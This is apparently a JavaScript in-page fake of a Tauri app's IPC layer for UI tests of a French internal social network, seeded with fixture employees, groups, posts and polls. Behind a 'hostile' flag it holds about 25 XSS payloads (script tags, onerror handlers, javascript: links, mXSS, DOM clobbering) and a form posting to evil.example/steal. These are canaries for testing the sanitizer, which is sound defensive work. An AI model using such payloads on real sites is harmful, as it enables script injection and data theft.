// An in-page fake of the Tauri shell for the UI tests: `window.__TAURI_INTERNALS__`
// answers every command of the IPC contract from French fixture data held in memory,
// and `window.__fake` lets a test emit events, go offline, deliver the outbox and read
// what the UI called. Configured by `window.__FAKE_CONFIG__` (set by an earlier init script).
(() => {
  const config = Object.assign(
    { signedIn: true, hostile: false, language: 'fr', theme: 'light', bulkPosts: 400, autoDeliver: true },
    window.__FAKE_CONFIG__ || {},
  );
  const NOW = Date.now();
  const MIN = 60_000;
  const HOUR = 60 * MIN;
  const DAY = 24 * HOUR;

  // Deterministic pseudo-random numbers, so screenshots are stable.
  let seed = 42;
  const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
  const pick = (list) => list[Math.floor(rnd() * list.length)];

  const escapeHtml = (s) =>
    s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

  // People
  const FIRST = ['Marie', 'Jean', 'Sophie', 'Karim', 'Nathalie', 'Thomas', 'Isabelle', 'Mehdi', 'Claire', 'Philippe', 'Aurélie', 'Olivier', 'Fatima', 'Julien', 'Camille', 'Laurent', 'Émilie', 'Yann', 'Chloé', 'Bernard', 'Inès', 'Pascal', 'Lucie', 'Antoine'];
  const LAST = ['Dubois', 'Martin', 'Lefèvre', 'Benali', 'Moreau', 'Girard', 'Roux', 'Haddad', 'Fontaine', 'Lambert', 'Mercier', 'Bonnet', 'Diallo', 'Chevalier', 'Perrin', 'Morel', 'Garnier', 'Le Gall', 'Faure', 'André', 'Mathieu', 'Blanc', 'Guerin', 'Rousseau'];
  const JOBS = ['Conseillère service client', 'Technicien prestations', 'Responsable de pôle', 'Chargée de communication', 'Développeur', 'Gestionnaire de dossiers', 'Manager de proximité', 'Médecin-conseil', 'Juriste', 'Assistante de direction', 'Contrôleur de gestion', 'Chargé de projet RH'];
  const DEPTS = ['Relation client', 'Prestations', 'Direction', 'Communication', 'Informatique', 'Ressources humaines', 'Service médical', 'Juridique', 'Finances'];
  const SITES = ['Nantes', 'Saint-Nazaire', 'Cholet', 'Laval'];

  const people = [];
  for (let i = 0; i < 48; i++) {
    const first = FIRST[i % FIRST.length];
    const last = LAST[(i * 7 + Math.floor(i / LAST.length) * 5) % LAST.length];
    const handle = `${first}.${last}`
      .normalize('NFD')
      .replace(/\p{M}/gu, '')
      .replace(/[^A-Za-z.]/g, '')
      .toLowerCase();
    people.push({
      id: i + 1,
      handle,
      name: `${first} ${last}`,
      initials: `${first[0]}${last[0]}`.toUpperCase(),
      job_title: i === 0 ? 'Chargée de projet RH' : JOBS[(i * 5) % JOBS.length],
      department: i === 0 ? 'Ressources humaines' : DEPTS[(i * 3) % DEPTS.length],
      site: SITES[i % SITES.length],
      email: `${handle}@cpam-exemple.fr`,
      phone: i % 3 === 0 ? null : `02 40 ${String(10 + i).padStart(2, '0')} ${String(20 + i).padStart(2, '0')} ${String(30 + i).padStart(2, '0')}`,
      disabled: false,
    });
  }
  const me = people[0];
  const ref = (p) => ({ id: p.id, name: p.name, handle: p.handle, job_title: p.job_title, initials: p.initials });

  // Groups
  const groups = [
    { id: 1, name: 'Annonces de la direction', description: 'Les informations officielles de la direction pour tous les agents.', visibility: 'public', kind: 'announcement', joined: true, following: true, my_role: 'member' },
    { id: 2, name: 'Négociation temps de travail', description: 'Suivi de la négociation sur l’organisation du temps de travail. Échanges confidentiels entre représentants et direction.', visibility: 'private', kind: 'work', joined: true, following: true, my_role: 'admin' },
    { id: 3, name: 'Projet Hublot', description: 'Le déploiement du nouveau réseau social interne : retours, questions, formations.', visibility: 'public', kind: 'project', joined: true, following: false, my_role: 'member' },
    { id: 4, name: 'Site de Nantes', description: 'La vie du site de Nantes : salles, parking, restaurant d’entreprise.', visibility: 'public', kind: 'community', joined: true, following: false, my_role: 'member' },
    { id: 5, name: 'Accueil des assurés', description: 'Pratiques et actualités de l’accueil physique et téléphonique.', visibility: 'public', kind: 'work', joined: true, following: true, my_role: 'member' },
    { id: 6, name: 'Covoiturage Saint-Nazaire ↔ Nantes', description: 'Proposer ou trouver un trajet partagé.', visibility: 'public', kind: 'community', joined: false, following: false, my_role: null },
    { id: 7, name: 'Jardin partagé', description: 'Le potager du site de Cholet : plantations, arrosage, récoltes.', visibility: 'public', kind: 'community', joined: false, following: false, my_role: null },
    { id: 8, name: 'Télétravail – entraide', description: 'Astuces, matériel, organisation : s’entraider quand on travaille à distance.', visibility: 'public', kind: 'community', joined: false, following: false, my_role: null },
    { id: 9, name: 'Informatique – support', description: 'Signaler un incident, partager une astuce, suivre les mises à jour des postes.', visibility: 'public', kind: 'work', joined: false, following: false, my_role: null },
  ].map((g) => ({ archived: false, member_count: 0, unread: 0, unread_mentions: 0, last_post_at: null, ...g }));
  if (config.hostile) {
    groups.push({ id: 99, name: 'Corpus hostile', description: 'Contenus piégés : rien ne doit s’exécuter.', visibility: 'public', kind: 'work', archived: false, member_count: 3, joined: true, following: false, my_role: 'member', unread: 0, unread_mentions: 0, last_post_at: null });
  }
  const members = new Map();
  for (const g of groups) {
    const list = people.filter((p, i) => (i + g.id) % (g.id === 2 ? 6 : 2) === 0 || p.id === me.id && g.joined);
    members.set(g.id, list.map((p, i) => ({ person: ref(p), role: i < 2 ? 'admin' : 'member' })));
    g.member_count = list.length;
  }

  // Posts
  let nextPostId = 1;
  let nextCommentId = 1;
  const posts = [];
  const comments = new Map(); // post id -> CommentView[]
  const likers = new Map(); // post id -> PersonRef[]

  const TEXTS = [
    'Rappel : la **réunion de service** de jeudi est avancée à 9 h 30, salle Loire.',
    'Le nouveau formulaire de demande de remboursement est en ligne. Merci de le tester et de nous faire vos retours.',
    'Quelqu’un a-t-il une astuce pour le double écran en télétravail ? Mon portable ne détecte plus le second moniteur.',
    'Bravo à l’équipe de l’accueil de Laval pour la journée portes ouvertes : *plus de 300 visiteurs* !',
    'Pensez à poser vos congés d’été avant le 15 mars dans l’outil RH.',
    'Le restaurant d’entreprise propose un menu végétarien tous les mardis à partir de la semaine prochaine.',
    'Point d’étape du projet : la formation des référents est terminée sur les quatre sites.',
    'Les travaux du parking nord commencent lundi. Prévoyez un peu plus de temps le matin.',
    'Merci à toutes et tous pour votre mobilisation pendant la campagne de vaccination.',
    'Nouvelle procédure pour les arrêts de travail dématérialisés : voir la fiche [sur l’intranet](https://intranet.cpam-exemple.fr/fiches/arrets).',
  ];

  function renderMarkdown(body) {
    // A tiny Markdown for the fake; the real rendering is done by the Rust side.
    let html = escapeHtml(body)
      .replace(/\*\*(.+?)\*\*/g, '<strong>$1</strong>')
      .replace(/\*(.+?)\*/g, '<em>$1</em>')
      .replace(/`(.+?)`/g, '<code>$1</code>')
      .replace(/\[([^\]]+)\]\((https?:\/\/[^)\s]+)\)/g, '<a href="$2" rel="noopener noreferrer">$1</a>')
      .replace(/(^|\s)@([a-z.]+)/g, (all, space, handle) => {
        const p = people.find((x) => x.handle === handle);
        return p ? `${space}<a class="mention" data-user-id="${p.id}" href="#">@${p.name}</a>` : all;
      });
    return html
      .split(/\n{2,}/)
      .map((para) => (para.startsWith('- ') ? `<ul>${para.split('\n').map((l) => `<li>${l.replace(/^- /, '')}</li>`).join('')}</ul>` : `<p>${para.replace(/\n/g, '<br>')}</p>`))
      .join('');
  }

  function makePost(groupId, author, body, createdAt, extra = {}) {
    const id = nextPostId++;
    const post = {
      key: `p${id}`,
      id,
      client_id: `srv-${id}`,
      group: { id: groupId, name: groups.find((g) => g.id === groupId).name },
      author: ref(author),
      body,
      body_html: renderMarkdown(body),
      pinned: false,
      created_at: createdAt,
      edited_at: null,
      comment_count: 0,
      like_count: 0,
      liked_by_me: false,
      poll: null,
      send_state: { state: 'sent' },
      is_mine: author.id === me.id,
      can_moderate: groups.find((g) => g.id === groupId).my_role === 'admin',
      unread: false,
      ...extra,
    };
    posts.push(post);
    comments.set(id, []);
    likers.set(id, []);
    return post;
  }

  function addComment(post, author, body, createdAt) {
    const id = nextCommentId++;
    const c = {
      key: `m${id}`, id, client_id: `srv-c${id}`, post_id: post.id, author: ref(author), body,
      body_html: renderMarkdown(body), created_at: createdAt, edited_at: null,
      send_state: { state: 'sent' }, is_mine: author.id === me.id,
    };
    comments.get(post.id).push(c);
    post.comment_count += 1;
    return c;
  }

  function like(post, person) {
    likers.get(post.id).push(ref(person));
    post.like_count += 1;
    if (person.id === me.id) post.liked_by_me = true;
  }

  // Bulk history, oldest first, spread over the joined groups.
  const bulk = config.bulkPosts;
  for (let i = 0; i < bulk; i++) {
    const g = [1, 3, 4, 5, 3, 4][i % 6];
    const author = people[1 + Math.floor(rnd() * (people.length - 1))];
    const p = makePost(g, author, pick(TEXTS), NOW - (bulk - i) * 3 * HOUR - Math.floor(rnd() * HOUR));
    const likes = Math.floor(rnd() * 6);
    for (let k = 0; k < likes; k++) like(p, people[2 + ((i + k * 5) % 40)]);
  }

  // The recent, hand-written posts everyone sees on top.
  makePost(4, people[11], 'Le sondage sur les horaires du restaurant est terminé, merci pour vos 142 réponses !', NOW - 2 * DAY, {
    poll: { question: 'Horaires d’ouverture du restaurant', multiple: false, closes_at: NOW - DAY, closed: true, voters: 142, vote_pending: false, options: [
      { id: 8, label: '11 h 30 – 13 h 30', votes: 88, percent: 62, chosen: true },
      { id: 9, label: '12 h – 14 h', votes: 54, percent: 38, chosen: false },
    ] },
  });

  const p1 = makePost(1, people[2], 'Bonjour à toutes et à tous,\n\nLa **nouvelle organisation des accueils** entre en vigueur le 1er avril. Vous trouverez le détail par site ci-dessous :\n\n- Nantes : accueil sur rendez-vous le matin\n- Saint-Nazaire : accueil libre toute la journée\n- Cholet et Laval : inchangé\n\nMerci à chacun pour son implication.', NOW - 26 * HOUR, { pinned: true });
  like(p1, people[5]); like(p1, people[9]); like(p1, people[12]);
  addComment(p1, people[7], 'Merci pour ces précisions. Les affiches seront-elles envoyées aux sites ?', NOW - 25 * HOUR);
  addComment(p1, people[2], 'Oui, elles partent cette semaine par courrier interne.', NOW - 24 * HOUR);

  const p2 = makePost(2, people[3], 'Compte rendu de la séance du 12 : la direction propose une **semaine de 4,5 jours** sur la base du volontariat. Les organisations syndicales demandent une expérimentation de six mois avant généralisation.\n\nMerci de donner votre avis avec le sondage ci-dessous.', NOW - 5 * HOUR, {
    poll: { question: 'Quelle organisation préférez-vous ?', multiple: false, closes_at: NOW + 5 * DAY, closed: false, voters: 37, vote_pending: false, options: [
      { id: 1, label: 'Semaine de 4,5 jours', votes: 18, percent: 48.6, chosen: false },
      { id: 2, label: 'Semaine de 5 jours avec horaires variables', votes: 12, percent: 32.4, chosen: false },
      { id: 3, label: 'Pas d’avis pour l’instant', votes: 7, percent: 18.9, chosen: false },
    ] },
    unread: true,
  });
  addComment(p2, people[10], 'Une expérimentation me semble raisonnable, surtout pour les équipes de l’accueil.', NOW - 4 * HOUR);
  like(p2, people[4]);

  const p3 = makePost(3, people[6], 'Quels sujets voulez-vous voir dans la prochaine formation Hublot ? Plusieurs réponses possibles.', NOW - 3 * HOUR, {
    poll: { question: 'Sujets de formation', multiple: true, closes_at: null, closed: false, voters: 21, vote_pending: false, options: [
      { id: 4, label: 'Les notifications', votes: 14, percent: 66.7, chosen: true },
      { id: 5, label: 'La recherche', votes: 9, percent: 42.9, chosen: false },
      { id: 6, label: 'Le mode hors ligne', votes: 11, percent: 52.4, chosen: true },
      { id: 7, label: 'Les sondages', votes: 4, percent: 19, chosen: false },
    ] },
    unread: true,
  });
  like(p3, me); like(p3, people[8]);

  makePost(1, people[4], 'La **journée sécurité informatique** aura lieu le 24 : ateliers sur l’hameçonnage et les mots de passe. Inscriptions auprès de votre manager.', NOW - 90 * MIN, { unread: true });
  const p5 = makePost(5, me, `Bonjour @${people[2].handle}, peux-tu partager la nouvelle fiche sur les rendez-vous téléphoniques ? Merci !`, NOW - 40 * MIN);
  addComment(p5, people[2], 'C’est fait, elle est dans l’espace documentaire.', NOW - 20 * MIN);
  addComment(p5, me, 'Merci beaucoup !', NOW - 12 * MIN);

  makePost(4, people[13], 'Objet trouvé : un badge au nom de M. Garnier, déposé à l’accueil du bâtiment B.', NOW - 6 * MIN, { unread: true });

  if (config.hostile) {
    const HOSTILE = [
      '<p>script</p><script>window.__canary="pwned";alert(1)</script>',
      '<p>img</p><img src="x" onerror="window.__canary=\'pwned\'">',
      '<p><a href="javascript:window.__canary=\'pwned\'">lien javascript</a></p>',
      '<p><a href="JaVaScRiPt:alert(1)">lien javascript 2</a> <a href="  javascript:alert(1)">lien 3</a></p>',
      '<svg onload="window.__canary=\'pwned\'"><circle r="10"></circle></svg><p>svg onload</p>',
      '<svg><script>window.__canary="pwned"</script><image href="http://evil.example/svg.png"></image></svg>',
      '<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>parent.__canary=\'pwned\'</script>"></iframe><p>iframes</p>',
      '<div style="position:fixed;inset:0;z-index:999;background:url(http://evil.example/bg.png)">CSS plein écran</div>',
      '<style>body{display:none!important} @import url(http://evil.example/x.css);</style><p>style</p>',
      '<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>meta refresh</p>',
      '<form action="http://evil.example/steal"><input name="p" value="secret"><button>Envoyer</button></form><p>form</p>',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.__canary=\'pwned\'">',
      '<p><a href="http://evil.example/" onclick="window.__canary=\'pwned\'" target="_blank" data-user-id="3">lien onclick</a></p>',
      '<details open ontoggle="window.__canary=\'pwned\'"><summary>détails</summary></details>',
      '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf"><p>object/embed</p>',
      '<video src="http://evil.example/v.mp4" poster="http://evil.example/p.png"><source src="x" onerror="window.__canary=\'pwned\'"></video><audio src="x" onerror="window.__canary=\'pwned\'"></audio>',
      '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css"><p>base/link</p>',
      '<p><a class="mention" data-user-id="1 onmouseover=alert(1)" href="javascript:alert(1)">@faux</a></p>',
      '<form id="app"><input name="getElementById"></form><img name="getElementById"><p>clobbering</p>',
      '<noscript><p title="</noscript><img src=x onerror=window.__canary=\'pwned\'>"></noscript>',
      '<input autofocus onfocus="window.__canary=\'pwned\'"><p>autofocus</p>',
      '<p><a href="data:text/html,<script>alert(1)</script>">data:</a> <a href="vbscript:msgbox(1)">vbscript</a></p>',
      '<p style="background-image:url(http://evil.example/css-bg.png)">fond CSS</p><picture><source srcset="http://evil.example/s.png"><img src="http://evil.example/i.png"></picture>',
      '<table background="http://evil.example/t.png"><tr><td>table</td></tr></table>',
      '<p onmouseover="window.__canary=\'pwned\'">survol</p><marquee onstart="window.__canary=\'pwned\'">défilant</marquee>',
    ];
    HOSTILE.forEach((html, i) => {
      const p = makePost(99, people[3 + i], 'contenu hostile', NOW - (i + 1) * MIN);
      p.body_html = html;
    });
    const pc = posts[posts.length - 1];
    const c = addComment(pc, people[5], 'commentaire', NOW);
    c.body_html = '<img src=x onerror="window.__canary=\'pwned\'"><p>commentaire hostile</p>';
  }

  for (const g of groups) {
    const mine = posts.filter((p) => p.group.id === g.id);
    g.unread = mine.filter((p) => p.unread).length;
    g.last_post_at = mine.length ? Math.max(...mine.map((p) => p.created_at)) : null;
  }
  groups.find((g) => g.id === 3).unread_mentions = 1;

  // Older history the "server" holds for group 3 beyond the cache.
  let serverHistory = 120;

  let online = true;
  let sync = { state: { state: 'online' }, last_synced_at: NOW - 2 * MIN, pending: 0, failed: 0 };
  let settings = {
    language: config.language,
    theme: config.theme,
    notifications: { enabled: true, paused_until: null, quiet_hours: { start_minute: 19 * 60, end_minute: 8 * 60, weekends: true }, mentions_break_through: true, sound: false },
    close_to_tray: true,
    start_at_login: false,
  };
  let signedIn = config.signedIn;
  const outbox = [];
  let nextOutboxId = 1;
  const calls = [];
  const opened = [];

  // Events
  const callbacks = new Map();
  let nextCallback = 1;
  const listeners = new Map(); // event -> [{ eventId, handler }]
  let nextEventId = 1;

  function emit(event, payload) {
    for (const l of listeners.get(event) || []) {
      const cb = callbacks.get(l.handler);
      if (cb) cb({ event, id: l.eventId, payload });
    }
  }

  function session() {
    return { server: 'http://127.0.0.1:8711', demo: true, me };
  }

  function err(code, message) {
    return { code, message };
  }

  function unreadSummary() {
    const joined = groups.filter((g) => g.joined);
    return { posts: joined.reduce((n, g) => n + g.unread, 0), mentions: joined.reduce((n, g) => n + g.unread_mentions, 0) };
  }

  function visible(p) {
    const g = groups.find((x) => x.id === p.group.id);
    return g && (g.joined || g.visibility === 'public');
  }

  function feed({ group_id, before, limit }) {
    const size = Math.min(limit || 50, 200);
    let list = posts.filter((p) => (group_id === null ? groups.find((g) => g.id === p.group.id).joined : p.group.id === group_id));
    const pending = list.filter((p) => p.id === null).sort((a, b) => b.created_at - a.created_at);
    let sent = list.filter((p) => p.id !== null).sort((a, b) => b.id - a.id);
    let head = [];
    if (before === null) {
      head = pending;
      if (group_id !== null) {
        head = [...head, ...sent.filter((p) => p.pinned)];
        sent = sent.filter((p) => !p.pinned);
      }
    } else {
      sent = sent.filter((p) => p.id < before && !(group_id !== null && p.pinned));
    }
    const page = sent.slice(0, size);
    const more = sent.length > size;
    return {
      posts: [...head, ...page].map((p) => structuredClone(p)),
      next_before: more && page.length ? page[page.length - 1].id : null,
      more_on_server: !more && (group_id === 3 || group_id === null) && serverHistory > 0,
    };
  }

  function outboxItem(kind, extra) {
    const item = { id: nextOutboxId++, client_id: crypto.randomUUID(), kind, group_id: null, post_id: null, summary: '', state: { state: 'queued' }, attempts: 0, created_at: Date.now(), ...extra };
    outbox.push(item);
    sync.pending = outbox.filter((o) => o.state.state !== 'failed').length;
    sync.failed = outbox.filter((o) => o.state.state === 'failed').length;
    emit('sync-status', structuredClone(sync));
    if (online && config.autoDeliver) setTimeout(deliver, 400);
    return item;
  }

  /** Sends the outbox to the "server": pending posts and comments get ids. */
  function deliver() {
    if (!online) return;
    const touched = new Set();
    for (const item of [...outbox]) {
      if (item.state.state === 'failed') continue;
      if (item.kind === 'create_post') {
        const p = posts.find((x) => x.client_id === item.client_id);
        if (p) {
          p.id = nextPostId++;
          p.key = `p${p.id}`;
          p.send_state = { state: 'sent' };
          comments.set(p.id, []);
          likers.set(p.id, []);
          touched.add(p.group.id);
        }
      }
      if (item.kind === 'create_comment') {
        for (const list of comments.values()) {
          const c = list.find((x) => x.client_id === item.client_id);
          if (c) {
            c.id = nextCommentId++;
            c.key = `m${c.id}`;
            c.send_state = { state: 'sent' };
          }
        }
      }
      outbox.splice(outbox.indexOf(item), 1);
    }
    sync.pending = 0;
    sync.failed = outbox.filter((o) => o.state.state === 'failed').length;
    sync.last_synced_at = Date.now();
    emit('sync-status', structuredClone(sync));
    emit('cache-changed', { groups: [...touched], posts: [], people: false, outbox: true, all: false });
  }

  function findPost(id) {
    const p = posts.find((x) => x.id === id);
    if (!p) throw err('not_found', 'Cette publication n’existe plus.');
    return p;
  }

  const handlers = {
    app_info: () => ({ version: '0.1.0', session: signedIn ? session() : null }),
    sign_in: ({ server, login, password }) => {
      if (!/^https?:\/\//.test(server)) throw err('invalid_input', 'Adresse de serveur invalide.');
      if (server.includes('injoignable')) throw err('offline', 'Impossible de joindre le serveur injoignable.example.');
      if (login !== 'demo' || password !== 'demo') throw err('invalid_input', 'Identifiant ou mot de passe incorrect.');
      signedIn = true;
      return session();
    },
    start_demo: () => { signedIn = true; return session(); },
    reset_demo: () => session(),
    sign_out: () => { signedIn = false; return null; },
    feed: ({ query }) => feed(query),
    fetch_history: ({ groupId }) => {
      if (!online) throw err('offline', 'Hors ligne : l’historique ne peut pas être chargé.');
      if (groupId !== 3 || serverHistory === 0) return 0;
      const n = Math.min(50, serverHistory);
      serverHistory -= n;
      // Older than everything held: ids below the oldest are not available, so use
      // fresh ids but old dates; the fake's pagination is by id, so shift ids down.
      const oldest = Math.min(...posts.map((p) => p.id ?? Infinity));
      for (let i = 0; i < n; i++) {
        const p = makePost(3, people[5 + (i % 30)], `Archive : ${pick(TEXTS)}`, NOW - 400 * DAY - i * DAY);
        nextPostId--;
        p.id = oldest - 1 - i;
        p.key = `p${p.id}`;
        comments.set(p.id, []);
        likers.set(p.id, []);
      }
      return n;
    },
    post_detail: ({ postId }) => {
      const p = findPost(postId);
      return { post: structuredClone(p), comments: structuredClone(comments.get(p.id) || []), likers: structuredClone(likers.get(p.id) || []) };
    },
    groups: () => structuredClone(groups),
    group_detail: ({ groupId }) => {
      const g = groups.find((x) => x.id === groupId);
      if (!g) throw err('not_found', 'Ce groupe n’existe pas.');
      return { group: structuredClone(g), members: structuredClone(members.get(groupId) || []) };
    },
    people: ({ query }) => {
      const fold = (s) => s.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
      let list = people.filter((p) => (!query.text || fold(`${p.name} ${p.handle}`).includes(fold(query.text))) && (!query.department || p.department === query.department) && (!query.site || p.site === query.site));
      list = list.sort((a, b) => a.name.localeCompare(b.name));
      const offset = query.offset || 0;
      return { people: list.slice(offset, offset + (query.limit || 50)), total: list.length, departments: [...new Set(people.map((p) => p.department))].sort(), sites: [...SITES].sort() };
    },
    profile: ({ userId }) => {
      const person = people.find((p) => p.id === userId);
      if (!person) throw err('not_found', 'Cette personne n’existe pas.');
      return { person, recent_posts: posts.filter((p) => p.author.id === userId && visible(p)).sort((a, b) => b.created_at - a.created_at).slice(0, 5) };
    },
    search: ({ query }) => {
      const fold = (s) => s.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
      const words = fold(query.text).split(/\s+/).filter(Boolean);
      const hits = [];
      const snippet = (body) => {
        let html = escapeHtml(body.replace(/[*_`]/g, '').slice(0, 180));
        for (const w of words) html = html.replace(new RegExp(`(${w.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\S*)`, 'gi'), '<mark>$1</mark>');
        return html;
      };
      const matches = (body) => words.every((w) => fold(body).includes(w));
      for (const p of posts) {
        if (p.id === null || !visible(p)) continue;
        if (query.group_id !== null && p.group.id !== query.group_id) continue;
        if (query.author_id === null || p.author.id === query.author_id) {
          if (matches(p.body)) hits.push({ kind: 'post', post_id: p.id, comment_id: null, group: p.group, author: p.author, snippet_html: snippet(p.body), created_at: p.created_at });
        }
        for (const c of comments.get(p.id) || []) {
          if (query.author_id !== null && c.author.id !== query.author_id) continue;
          if (matches(c.body)) hits.push({ kind: 'comment', post_id: p.id, comment_id: c.id, group: p.group, author: c.author, snippet_html: snippet(c.body), created_at: c.created_at });
        }
      }
      if (config.hostile && query.text.includes('piège')) {
        hits.unshift({ kind: 'post', post_id: posts[0].id, comment_id: null, group: posts[0].group, author: posts[0].author, snippet_html: 'un <mark onclick="window.__canary=\'pwned\'">piège</mark><img src=x onerror="window.__canary=\'pwned\'"><script>window.__canary="pwned"</script> <b>gras</b>', created_at: NOW });
      }
      return hits.sort((a, b) => b.created_at - a.created_at).slice(0, query.limit || 50);
    },
    mention_candidates: ({ prefix }) => {
      const f = prefix.toLowerCase();
      return people.filter((p) => p.handle.startsWith(f) || p.name.toLowerCase().split(' ').some((w) => w.startsWith(f))).slice(0, 8).map(ref);
    },
    render_markdown: ({ body }) => renderMarkdown(body),
    sync_status: () => structuredClone(sync),
    outbox: () => structuredClone(outbox),
    unread: () => unreadSummary(),
    create_post: ({ groupId, body, poll }) => {
      const g = groups.find((x) => x.id === groupId);
      const item = outboxItem('create_post', { group_id: groupId, summary: body.slice(0, 80) });
      const p = {
        key: `c${item.client_id}`, id: null, client_id: item.client_id, group: { id: g.id, name: g.name }, author: ref(me), body,
        body_html: renderMarkdown(body), pinned: false, created_at: Date.now(), edited_at: null, comment_count: 0, like_count: 0,
        liked_by_me: false, send_state: { state: 'pending' }, is_mine: true, can_moderate: g.my_role === 'admin', unread: false,
        poll: poll ? { question: poll.question, multiple: poll.multiple, closes_at: poll.closes_at, closed: false, voters: 0, vote_pending: false, options: poll.options.map((label, i) => ({ id: 1000 + i, label, votes: 0, percent: 0, chosen: false })) } : null,
      };
      posts.push(p);
      return structuredClone(p);
    },
    edit_post: ({ postId, body }) => { const p = findPost(postId); p.body = body; p.body_html = renderMarkdown(body); p.edited_at = Date.now(); return null; },
    delete_post: ({ postId }) => { const p = findPost(postId); posts.splice(posts.indexOf(p), 1); return null; },
    create_comment: ({ postId, body }) => {
      const p = findPost(postId);
      const item = outboxItem('create_comment', { post_id: postId, group_id: p.group.id, summary: body.slice(0, 80) });
      const c = { key: `c${item.client_id}`, id: null, client_id: item.client_id, post_id: postId, author: ref(me), body, body_html: renderMarkdown(body), created_at: Date.now(), edited_at: null, send_state: { state: 'pending' }, is_mine: true };
      comments.get(postId).push(c);
      p.comment_count += 1;
      return structuredClone(c);
    },
    edit_comment: ({ commentId, body }) => {
      for (const list of comments.values()) { const c = list.find((x) => x.id === commentId); if (c) { c.body = body; c.body_html = renderMarkdown(body); c.edited_at = Date.now(); } }
      return null;
    },
    delete_comment: ({ commentId }) => {
      for (const [pid, list] of comments) { const i = list.findIndex((x) => x.id === commentId); if (i >= 0) { list.splice(i, 1); findPost(pid).comment_count -= 1; } }
      return null;
    },
    set_like: ({ postId, liked }) => {
      const p = findPost(postId);
      if (p.liked_by_me !== liked) { p.liked_by_me = liked; p.like_count += liked ? 1 : -1; const l = likers.get(postId); if (liked) l.push(ref(me)); else l.splice(l.findIndex((x) => x.id === me.id), 1); }
      return null;
    },
    vote: ({ postId, optionIds }) => {
      const p = findPost(postId);
      if (!p.poll || p.poll.closed) throw err('forbidden', 'Ce sondage est clos.');
      for (const o of p.poll.options) o.chosen = optionIds.includes(o.id);
      return null;
    },
    mark_read: ({ groupId }) => {
      const g = groups.find((x) => x.id === groupId);
      if (g) { g.unread = 0; g.unread_mentions = 0; for (const p of posts) if (p.group.id === groupId) p.unread = false; }
      return null;
    },
    set_membership: ({ groupId, joined }) => { const g = groups.find((x) => x.id === groupId); g.joined = joined; g.my_role = joined ? 'member' : null; g.member_count += joined ? 1 : -1; if (!joined) g.following = false; return null; },
    set_follow: ({ groupId, following }) => { groups.find((x) => x.id === groupId).following = following; return null; },
    pin_post: ({ postId, pinned }) => { if (!online) throw err('offline', 'Épingler demande une connexion.'); findPost(postId).pinned = pinned; return null; },
    retry_outbox: ({ id }) => { const o = outbox.find((x) => x.id === id); if (o) o.state = { state: 'queued' }; return null; },
    discard_outbox: ({ id }) => {
      const i = outbox.findIndex((x) => x.id === id);
      if (i >= 0) { const [o] = outbox.splice(i, 1); const p = posts.findIndex((x) => x.client_id === o.client_id); if (p >= 0) posts.splice(p, 1); }
      sync.pending = outbox.filter((o) => o.state.state !== 'failed').length;
      sync.failed = outbox.filter((o) => o.state.state === 'failed').length;
      emit('sync-status', structuredClone(sync));
      return null;
    },
    edit_outbox: ({ id, body }) => {
      const o = outbox.find((x) => x.id === id);
      if (!o) throw err('not_found', 'Cet envoi n’existe plus.');
      o.summary = body.slice(0, 80);
      const p = posts.find((x) => x.client_id === o.client_id);
      if (p) { p.body = body; p.body_html = renderMarkdown(body); }
      return null;
    },
    shown_group: () => null,
    sync_now: () => { if (online) deliver(); return null; },
    settings: () => structuredClone(settings),
    save_settings: ({ settings: s }) => { settings = structuredClone(s); return structuredClone(settings); },
  };

  async function invoke(cmd, args = {}) {
    calls.push({ cmd, args: structuredClone(args) });
    if (cmd === 'plugin:event|listen') {
      const eventId = nextEventId++;
      if (!listeners.has(args.event)) listeners.set(args.event, []);
      listeners.get(args.event).push({ eventId, handler: args.handler });
      return eventId;
    }
    if (cmd === 'plugin:event|unlisten') {
      const list = listeners.get(args.event) || [];
      const i = list.findIndex((l) => l.eventId === args.eventId);
      if (i >= 0) list.splice(i, 1);
      return null;
    }
    if (cmd === 'plugin:opener|open_url') {
      opened.push(args.url);
      return null;
    }
    const handler = handlers[cmd];
    if (!handler) throw `unknown command ${cmd}`;
    // Answer asynchronously like the real IPC.
    await new Promise((r) => setTimeout(r, 1));
    return handler(args);
  }

  window.__TAURI_INTERNALS__ = {
    invoke,
    transformCallback(callback, once) {
      const id = nextCallback++;
      callbacks.set(id, (data) => {
        if (once) callbacks.delete(id);
        return callback && callback(data);
      });
      return id;
    },
    unregisterCallback(id) {
      callbacks.delete(id);
    },
    convertFileSrc: (path) => path,
    metadata: { currentWindow: { label: 'main' }, currentWebview: { windowLabel: 'main', label: 'main' } },
  };
  window.__TAURI_EVENT_PLUGIN_INTERNALS__ = { unregisterListener() {} };

  window.__fake = {
    calls,
    opened,
    emit,
    deliver,
    outbox,
    posts,
    setOffline(since) {
      online = false;
      sync = { ...sync, state: { state: 'offline', since, retry_at: null } };
      emit('sync-status', structuredClone(sync));
    },
    setOnline() {
      online = true;
      sync = { ...sync, state: { state: 'online' } };
      emit('sync-status', structuredClone(sync));
    },
    setError(reason) {
      sync = { ...sync, state: { state: 'error', reason, since: Date.now(), retry_at: null } };
      emit('sync-status', structuredClone(sync));
    },
    failOutbox(reason) {
      for (const o of outbox) {
        o.state = { state: 'failed', reason };
        o.attempts += 1;
        const p = posts.find((x) => x.client_id === o.client_id);
        if (p) p.send_state = { state: 'failed', reason, outbox_id: o.id };
      }
      sync.pending = 0;
      sync.failed = outbox.length;
      emit('sync-status', structuredClone(sync));
      emit('cache-changed', { groups: [], posts: [], people: false, outbox: true, all: false });
    },
    addIncomingPost(groupId, body) {
      const p = makePost(groupId, people[7], body, Date.now(), { unread: true });
      const g = groups.find((x) => x.id === groupId);
      g.unread += 1;
      emit('cache-changed', { groups: [groupId], posts: [p.id], people: false, outbox: false, all: false });
      emit('unread', unreadSummary());
      return p.id;
    },
  };
})();
